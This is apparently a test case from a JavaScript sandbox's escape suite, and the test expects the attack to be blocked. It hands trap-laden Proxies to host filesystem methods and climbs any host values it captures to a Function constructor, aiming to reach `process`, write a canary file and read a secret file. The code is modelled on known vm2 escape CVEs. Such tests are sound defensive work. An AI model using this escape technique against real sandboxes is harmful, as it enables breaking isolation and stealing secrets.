// attack: hand Proxies with every trap to capability methods: as the path, the data, the options object, an element of an array argument, a Uint8Array stand-in, `this` of the call, and as a disguised object whose getPrototypeOf says Object.prototype; every trap the host triggers climbs its target, receiver, descriptors and arguments
// source: CVE-2023-30547 and CVE-2023-32314 (vm2: a guest Proxy passed to host code runs traps with host-made arguments); vm2 ATTACKS.md Category 4 'Proxy'; Endo passStyleOf rejects proxies
// needs: fs
// category: escape
// expect: blocked - the membrane rejects proxies (types.isProxy) before touching them; no trap runs in host code
const ID = '106-proxy-capability-arguments';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const fired = [];
const values = [];
const traps = (label, target) => new Proxy(target, {
  get(t, k, r) { fired.push(label + ' get ' + String(k)); values.push([label + ' get target', t], [label + ' get receiver', r]); return Reflect.get(t, k, r); },
  getPrototypeOf(t) { fired.push(label + ' getPrototypeOf'); values.push([label + ' gpo arguments', arguments]); return Object.prototype; },
  ownKeys(t) { fired.push(label + ' ownKeys'); values.push([label + ' ownKeys arguments', arguments]); return Reflect.ownKeys(t); },
  getOwnPropertyDescriptor(t, k) { fired.push(label + ' gopd ' + String(k)); values.push([label + ' gopd arguments', arguments]); return Reflect.getOwnPropertyDescriptor(t, k); },
  has(t, k) { fired.push(label + ' has ' + String(k)); return Reflect.has(t, k); },
  apply(t, thiz, args) { fired.push(label + ' apply'); values.push([label + ' apply this', thiz], [label + ' apply args', args]); return Reflect.apply(t, thiz, args); },
  construct(t, args, nt) { fired.push(label + ' construct'); values.push([label + ' construct newTarget', nt]); return Reflect.construct(t, args, nt); },
  defineProperty(t, k, d) { fired.push(label + ' defineProperty ' + String(k)); values.push([label + ' define descriptor', d]); return Reflect.defineProperty(t, k, d); },
  set(t, k, v, r) { fired.push(label + ' set ' + String(k)); values.push([label + ' set receiver', r]); return Reflect.set(t, k, v, r); },
  isExtensible(t) { fired.push(label + ' isExtensible'); return Reflect.isExtensible(t); },
  preventExtensions(t) { fired.push(label + ' preventExtensions'); return Reflect.preventExtensions(t); },
});
const calls = [
  ['path = proxy string box', () => fs.readFile(traps('path', Object('data.txt')), 'utf8')],
  ['path = proxy function', () => fs.readFile(traps('pathfn', function () {}), 'utf8')],
  ['options = proxy', () => fs.readFile('data.txt', traps('options', { encoding: 'utf8' }))],
  ['data = proxy of Uint8Array', () => fs.writeFile('out/p.bin', traps('bytes', new Uint8Array(4)))],
  ['data = proxy of string box', () => fs.writeFile('out/p.txt', traps('strbox', Object('text')))],
  ['mkdir options = proxy', () => fs.mkdir('out/pd', traps('mkopts', { recursive: true }))],
  ['rm options = proxy', () => fs.rm('out/pd', traps('rmopts', { recursive: true }))],
  ['array element proxy', () => fs.readdir([traps('elem', {})])],
  ['disguised plain object', () => fs.rm('out/x', traps('disguised', Object.create(null)))],
  ['this = proxy', () => Reflect.apply(fs.readFile, traps('this', {}), ['data.txt', 'utf8'])],
  ['spread of proxy array', () => fs.readFile(...traps('spread', ['data.txt', 'utf8']))],
];
for (const [label, call] of calls) {
  try { const v = await call(); values.push([label + ' result', v]); note(label + ': accepted'); } catch (e) { values.push([label + ' error', e]); note(label + ': ' + msg(e)); }
}
// traps that fired only in guest code (the spread) are fine; any other firing ran inside the host
const hit = await climbAll(values);
if (hit) return hit;
return { blocked: tried, untold, trapsFired: fired.slice(0, 40) };
